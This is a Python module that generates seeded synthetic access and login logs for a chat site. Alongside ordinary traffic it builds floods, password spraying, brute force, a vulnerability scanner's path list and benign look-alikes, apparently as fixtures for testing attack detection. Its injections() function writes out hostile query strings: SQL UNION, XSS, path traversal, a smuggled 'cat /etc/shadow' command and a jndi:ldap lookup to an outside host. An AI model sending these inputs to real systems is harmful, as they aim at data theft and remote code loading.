"""Made traffic: an honest hour and attacks, as records of logstores. Same seed, same records."""

import random
from collections.abc import Iterable, Iterator
from typing import Any

Record = dict[str, Any]

HOUR = 1_763_805_600.0  # 2025-11-22 10:00:00 UTC, the start of a block of every length used
HOST = "chat.example"
COUNTRIES = ("DE", "US", "FR", "GB", "NL", "JP", "IN", "SG")
BROWSERS = tuple(f"Mozilla/5.0 (X11; Linux x86_64) Chrome/{n}.0" for n in range(110, 130))
PAGES = ("/", "/chat", "/docs", "/pricing", "/blog/select-a-model", "/account", "/search")
ASSETS = tuple(f"/static/{name}.{kind}" for name in "abcdefghijklm" for kind in ("js", "css", "png", "woff2"))
SEARCHES = (
    "q=select+a+union+rep",
    "q=it%27s+and+that%27s+all",
    "q=a+%3C+b",
    "q=drop+table+lamp",
    "page=2&sort=date",
)


def access(time: float, client: str, path: str, **more: Any) -> Record:
    """One access record."""
    return {
        "logstore": "access",
        "time": round(time, 6),
        "client_address": client,
        "client_country": "DE",
        "http_request_method": "GET",
        "server_address": HOST,
        "url_path": path,
        "http_response_status_code": 200,
        "user_agent_original": BROWSERS[0],
    } | more


def login(time: float, client: str, user: str, outcome: str, **more: Any) -> Record:
    """One login record."""
    return {
        "logstore": "security",
        "time": round(time, 6),
        "client_address": client,
        "client_country": "DE",
        "event_action": "login",
        "event_outcome": outcome,
        "service_name": "web",
        "user_name": user,
    } | more


def page_load(dice: random.Random, time: float, client: str, country: str, agent: str) -> Iterator[Record]:
    """A page with its forty assets within a second and a half, and a few calls of its scripts."""
    who = {"client_country": country, "user_agent_original": agent}
    path = dice.choice(PAGES)
    query = dice.choice(SEARCHES) if path == "/search" else ""
    status = 500 if dice.random() < 0.002 else 200
    yield access(time, client, path, url_query=query, http_response_status_code=status, **who)
    who["http_request_referer"] = f"https://{HOST}{path}"
    for asset in dice.sample(ASSETS, 40):
        status = dice.choice((200, 200, 304))
        yield access(time + dice.uniform(0.1, 1.5), client, asset, http_response_status_code=status, **who)
    for _ in range(dice.randint(0, 6)):
        yield access(time + dice.uniform(0.3, 2.0), client, f"/api/v1/{dice.choice('abcd')}", **who)


def visit(dice: random.Random, time: float, client: str, country: str) -> Iterator[Record]:
    """A person: a few pages, and a login with typos for one in four."""
    agent = dice.choice(BROWSERS)
    for _ in range(dice.randint(1, 4)):
        yield from page_load(dice, time, client, country, agent)
        time += dice.uniform(5, 40)
    if dice.random() < 0.25:
        while dice.random() < 0.08:
            yield login(time, client, f"user{client}", "failure", client_country=country)
            time += dice.uniform(3, 9)
        yield login(time, client, f"user{client}", "success", client_country=country)


def visits(
    dice: random.Random, start: float, end: float, rate: float, countries: Iterable[str], net: str
) -> Iterator[Record]:
    """People who arrive ``rate`` times a minute, each with an address of its own."""
    time, names = start, tuple(countries)
    while (time := time + dice.expovariate(rate / 60)) < end:
        client = f"{net}.{dice.randint(0, 250)}.{dice.randint(1, 250)}"
        yield from visit(dice, time, client, dice.choice(names))


def office(dice: random.Random, start: float, end: float) -> Iterator[Record]:
    """Twelve people behind one address."""
    time = start
    while (time := time + dice.expovariate(1 / 6)) < end:
        yield from page_load(dice, time, "198.51.100.10", "DE", dice.choice(BROWSERS[:12]))
        if dice.random() < 0.05:
            outcome = "failure" if dice.random() < 0.15 else "success"
            yield login(time, "198.51.100.10", f"office{dice.randint(1, 12)}", outcome)


def programs(dice: random.Random, start: float, end: float) -> Iterator[Record]:
    """A monitor twice a second, a crawler that meets dead links, a feed reader, and a busy API client."""
    for n in range(int(end - start)):
        at = start + n
        yield access(at, "198.51.100.20", "/healthz", user_agent_original="monitor/1.0")
        yield access(at + 0.5, "198.51.100.20", "/healthz", user_agent_original="monitor/1.0")
        if n % 3 == 0:
            status = 404 if dice.random() < 0.1 else 200
            path = f"/blog/{dice.randint(1, 4000)}"
            yield access(at, "66.249.66.1", path, http_response_status_code=status, client_country="US")
        if n % 600 == 0:
            yield access(at, "198.51.100.30", "/blog/feed.xml", http_response_status_code=304)
        if 600 <= n < 900:
            for k in range(25):
                yield access(at + k / 25, "198.51.100.40", "/v1/chat/completions", key_hash="k1")


def calm(seed: int = 2, minutes: int = 60) -> list[Record]:
    """The same without the flash crowd, to lie under an attack."""
    dice, end = random.Random(seed), HOUR + 60 * minutes
    records = list(visits(dice, HOUR, end, 5, COUNTRIES, "203.0"))
    records += office(dice, HOUR, end)
    records += [r for r in programs(dice, HOUR, end) if r["time"] < end]
    return records


def honest(seed: int = 1) -> list[Record]:
    """An hour of all of that, with a tide, and a flash crowd thirty times the usual from its 40th minute."""
    dice = random.Random(seed)
    records: list[Record] = []
    for quarter, rate in enumerate((3, 5, 6, 4)):
        start = HOUR + 900 * quarter
        records += visits(dice, start, start + 900, rate, COUNTRIES, "203.0")
    records += visits(dice, HOUR + 2400, HOUR + 2700, 4.5 * 30, COUNTRIES, "100.64")
    records += office(dice, HOUR, HOUR + 3600)
    records += programs(dice, HOUR, HOUR + 3600)
    return records


def burst(start: float, clients: int = 1, rate: float = 30, seconds: float = 20) -> Iterator[Record]:
    """``clients`` that each ask for one page ``rate`` times a second; from overload on they get 503."""
    for client in range(clients):
        for n in range(int(rate * seconds)):
            at = start + client * 0.003 + n / rate
            status = 200 if at - start < 5 else 503
            yield access(at, f"45.10.0.{client + 1}", "/login", http_response_status_code=status)


def limited(start: float, rate: float = 60, passed: float = 5, seconds: int = 10) -> Iterator[Record]:
    """A flood of which the edge lets ``passed`` a second through and sums up the rest each second."""
    for second in range(seconds):
        for n in range(int(passed)):
            yield access(start + second + n / passed, "45.11.0.1", "/login", verdict="pass")
        yield refused(start + second + 0.999, "limit", "rate", rate - passed)


def challenged(start: float, rate: float = 60, seconds: int = 10) -> Iterator[Record]:
    """A flood of programs that cannot solve the edge's challenge: all of it is summed up, none is let in."""
    for second in range(seconds):
        yield refused(start + second + 0.999, "challenge", "challenge/under_attack", rate)


def solved(start: float, people: int = 40) -> Iterator[Record]:
    """People behind one address who solve a challenge each, all within a second, and go on to one page."""
    yield refused(start + 0.5, "challenge", "challenge/always", 9) | {"client_address": "198.51.100.61"}
    yield refused(start + 0.999, "pass", "challenge/always", people) | {"client_address": "198.51.100.61"}
    for n in range(people):
        yield access(start + 3 + n / 8, "198.51.100.61", "/chat", verdict="pass")


def refused(time: float, verdict: str, rule: str, requests: float) -> Record:
    """A sum of what the edge refused."""
    return {
        "logstore": "ddos",
        "time": time,
        "client_address": "45.11.0.1",
        "vector": "http",
        "cc_phase": rule.partition("/")[0],
        "verdict": verdict,
        "verdict_rule": rule,
        "server_address": HOST,
        "requests": int(requests),
    }


def spray(start: float, seconds: float = 600, sources: int = 150) -> Iterator[Record]:
    """One attempt an address, one an account, evenly over the time."""
    for n in range(sources):
        client, user = f"45.20.{n // 200}.{n % 200 + 1}", f"victim{n}"
        yield login(start + seconds * n / sources, client, user, "failure", client_country="US")


def guessing(start: float, attempts: int = 60, success: bool = False) -> Iterator[Record]:
    """One address that tries passwords, two a second, and may find one."""
    for n in range(attempts):
        yield login(start + n / 2, "45.30.0.1", ("root", "admin", "test", "git", "www")[n % 5], "failure")
    if success:
        yield login(start + attempts / 2, "45.30.0.1", "admin", "success")


def siege(start: float, sources: int = 40) -> Iterator[Record]:
    """Many addresses on one account, a few attempts each."""
    for n in range(sources * 3):
        yield login(start + n, f"45.31.0.{n % sources + 1}", "root", "failure")


def scan(start: float) -> Iterator[Record]:
    """A scanner's list, two paths a second."""
    paths = (
        "/.env",
        "/.git/config",
        "/wp-login.php",
        "/phpmyadmin/",
        "/admin.php",
        "/backup.zip",
        "/cgi-bin/x",
    )
    for n, path in enumerate((*paths, *(f"/old/{n}.html" for n in range(60)))):
        yield access(
            start + n / 2, "45.40.0.1", path, http_response_status_code=404, user_agent_original="zgrab/0.x"
        )


def injections(start: float) -> Iterator[Record]:
    """One attempt of each kind."""
    queries = (
        "id=1%20UNION%20SELECT%20user,password%20from%20users",
        "q=%3Cscript%3Ealert(1)%3C/script%3E",
        "file=..%2f..%2f..%2fetc%2fpasswd",
        "host=127.0.0.1;cat%20/etc/shadow",
        "x=%24%7Bjndi:ldap://198.51.100.7/a%7D",
    )
    for n, query in enumerate(queries):
        yield access(start + n, "45.50.0.1", "/search", url_query=query)


def outage(start: float, seconds: float = 60) -> Iterator[Record]:
    """Three in four requests fail."""
    for n in range(int(seconds * 40)):
        status = 503 if n % 4 else 200
        yield access(start + n / 40, f"203.0.113.{n % 100 + 1}", "/buy", http_response_status_code=status)


def nat_logins(start: float) -> Iterator[Record]:
    """Two hundred people behind one address in the morning; one in seven mistypes."""
    for n in range(200):
        if n % 7 == 0:
            yield login(start + n * 1.4, "198.51.100.60", f"staff{n}", "failure")
        yield login(start + n * 1.4 + 1, "198.51.100.60", f"staff{n}", "success")


def login_outage(start: float) -> Iterator[Record]:
    """The account service is down: every login of honest people fails, and they try again."""
    for n in range(900):
        at = start - 900 + n
        outcome = "failure" if at >= start - 200 else "success"
        yield login(at, f"100.70.{n % 300 // 200}.{n % 200 + 1}", f"person{n % 300}", outcome)


def dead_links(start: float) -> Iterator[Record]:
    """A crawler on a site that moved: three in ten links are dead; a monitor of one page that is gone."""
    for n in range(600):
        status = 404 if n % 10 < 3 else 200
        yield access(start + n / 2, "66.249.66.9", f"/wiki/{n}", http_response_status_code=status)
        yield access(start + n / 2, "198.51.100.70", "/gone", http_response_status_code=404)


def wordpress(start: float) -> Iterator[Record]:
    """The editor of a WordPress site at work."""
    paths = (
        "/wp-login.php",
        "/wp-admin/",
        "/wp-admin/post.php",
        "/wp-includes/js/wp.js",
        "/wp-content/plugins/a.js",
    )
    for n in range(60):
        yield access(start + n * 2, "198.51.100.80", paths[n % 5])


def dashboard(start: float) -> Iterator[Record]:
    """An application that fires thirty calls as it opens, three times a minute, in four windows at once."""
    for load in range(12):
        for n in range(30):
            more = {"http_request_referer": f"https://{HOST}/board", "user_agent_original": BROWSERS[3]}
            yield access(start + 5 * load + n * 0.04, "198.51.100.90", f"/api/panel/{n}", **more)


def few_errors(start: float) -> Iterator[Record]:
    """A host that always answers one in ten with 502, and for a minute one in seven."""
    for n in range(20_000):
        at = start - 1900 + n / 10
        bad = n % 7 == 0 if start - 60 <= at < start else n % 10 == 0
        more = {"server_address": "old.example", "http_response_status_code": 502 if bad else 200}
        yield access(at, f"203.0.114.{n % 90 + 1}", "/", **more)


def newcomers(start: float, status: int, seconds: float = 600) -> Iterator[Record]:
    """Two hundred addresses of a country never seen, all answered with ``status``."""
    for n in range(int(seconds * 20)):
        more = {"client_country": "BR", "http_response_status_code": status}
        yield access(start + n / 20, f"45.60.0.{n % 200 + 1}", "/account", **more)
